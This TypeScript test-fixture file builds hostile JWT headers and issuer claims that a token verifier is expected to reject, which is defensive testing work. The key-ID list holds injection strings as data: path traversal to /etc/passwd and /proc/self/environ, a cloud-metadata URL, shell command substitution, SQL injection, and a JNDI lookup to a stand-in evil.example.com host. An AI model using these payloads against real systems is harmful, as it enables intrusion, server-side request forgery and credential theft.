import { type Build, claims, type HostileToken, header, rows } from './token.ts'

/** Names that are looked up: the key's, the type's, the issuer's. Each is compared whole, and is never a path or a query. */

const KIDS = [
  'nobody',
  'KEY-1',
  'key-1 ',
  ' key-1',
  'key-1.',
  'key-1/',
  './key-1',
  '../key-1',
  '../../../../../../dev/null',
  '/dev/null',
  '/proc/self/environ',
  'C:\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'https://evil.example.com/jwks.json',
  "key-1' OR '1'='1",
  "key-1' UNION SELECT 'secret'--",
  'key-1;--',
  'key-1"',
  '`id`',
  '$(id)',
  '|id',
  '; sleep 5',
  '{{7*7}}',
  '\u0024{jndi:ldap://evil.example.com/a}',
  'key-1%00',
  'key-1%0a',
  '%2e%2e%2fkey-1',
  '*',
  'key-?',
  '.*',
  'key\u20111',
  'ｋey-1',
  'key-1\u0301',
  'toString',
  'constructor',
  '0',
  'null',
  'undefined',
  'x'.repeat(128),
]
const TYPES = [
  'at+jwt',
  'application/at+jwt',
  'AT+JWT',
  'logout+jwt',
  'secevent+jwt',
  'dpop+jwt',
  'token-introspection+jwt',
  'entity-statement+jwt',
  'vc+sd-jwt',
  'jose',
  'JOSE+JSON',
  'jwt ',
  ' jwt',
  'jw',
  'jwtx',
  'application/',
  'application/application/jwt',
  'text/jwt',
  '',
]
const named = (names: readonly string[], build: (name: string) => Build) =>
  Object.fromEntries(names.map((name) => [JSON.stringify(name.slice(0, 60)), build(name)]))

const iss = (edit: (url: string) => unknown): Build => claims(({ issuer }) => ({ iss: edit(issuer.url) }))
const port = (url: string) => new URL(url).port

const ISSUERS: Readonly<Record<string, Build>> = {
  'iss null': iss(() => null),
  'iss a number': iss(() => 1),
  'iss true': iss(() => true),
  'iss an object': iss((url) => ({ url })),
  'iss a list of two': iss((url) => [url, url]),
  'iss empty': iss(() => ''),
  'iss a blank': iss(() => ' '),
  'iss with a blank behind': iss((url) => `${url} `),
  'iss with a tab before': iss((url) => `\t${url}`),
  'iss with a line break behind': iss((url) => `${url}\n`),
  'iss with NUL behind': iss((url) => `${url}\u0000`),
  'iss with a query': iss((url) => `${url}?`),
  'iss with a fragment': iss((url) => `${url}#`),
  'iss with an empty path': iss((url) => `${url}//`),
  'iss with a dot behind the host': iss((url) => url.replace(/:(\d+)$/, '.:$1')),
  'iss with a password': iss((url) => url.replace('//', '//a:b@')),
  'iss with a user that looks like us': iss((url) => `${url}@evil.example.com`),
  'iss with a percent sign': iss((url) => url.replace('1', '%31')),
  'iss of https': iss((url) => url.replace('http:', 'https:')),
  'iss without a scheme': iss((url) => url.replace('http:', '')),
  'iss with a scheme in capitals': iss((url) => url.replace('http', 'HTTP')),
  'iss with one slash': iss((url) => url.replace('//', '/')),
  'iss with backslashes': iss((url) => url.replaceAll('/', '\\')),
  'iss without its port': iss((url) => url.replace(/:\d+$/, '')),
  'iss with a zero before its port': iss((url) => url.replace(/:(\d+)$/, ':0$1')),
  'iss of a shorter address': iss((url) => `http://127.1:${port(url)}`),
  'iss of a hexadecimal address': iss((url) => `http://0x7f000001:${port(url)}`),
  'iss of a decimal address': iss((url) => `http://2130706433:${port(url)}`),
  'iss of the address in IPv6': iss((url) => `http://[::ffff:127.0.0.1]:${port(url)}`),
  'iss of the other loopback': iss((url) => `http://[::1]:${port(url)}`),
  'iss in full-width digits': iss((url) => url.replace('127', '１２７')),
  'iss with a combining mark': iss((url) => `${url}\u0301`),
  'iss of a part of it': iss((url) => url.slice(0, 12)),
  'iss of the discovery document': iss((url) => `${url}/.well-known/openid-configuration`),
  'iss of metadata of the cloud': iss(() => 'http://169.254.169.254/'),
  'iss of a file': iss(() => 'file:///etc/passwd'),
  'iss very long': iss((url) => url + '/x'.repeat(500)),
}

const KEYS_OF_OTHERS: Readonly<Record<string, Build>> = {
  'the other issuer, by our key of the same kid': ({ issuer, other, claims: all }) =>
    issuer.sign({ ...all, iss: other.url }),
  'our issuer, by the other’s key of the same kid': ({ issuer, other, claims: all }) =>
    other.sign({ ...all, iss: issuer.url }),
}

export const NAMES: readonly HostileToken[] = [
  ...rows(
    'D',
    'unknown_kid',
    named(
      KIDS.filter((kid) => kid !== 'key-1\u0301'),
      (kid) => header({ kid }),
    ),
    header({ kid: 'key-1' }),
  ),
  ...rows(
    'E',
    'typ_refused',
    named(TYPES, (typ) => header({ typ })),
    header({ typ: 'JWT' }),
  ),
  ...rows(
    'H',
    'unknown_issuer',
    ISSUERS,
    iss((url) => url),
  ),
  ...rows('I', 'signature_invalid', KEYS_OF_OTHERS),
  ...rows('I', 'unknown_kid', {
    'our issuer, by a kid that only the other has': ({ issuer, other, claims: all }) =>
      other.sign({ ...all, iss: issuer.url }, { header: { kid: 'only-other' } }),
    'the other issuer, by a kid that only we have': ({ issuer, other, ec, claims: all }) =>
      issuer.sign({ ...all, iss: other.url }, { key: ec }),
  }),
]
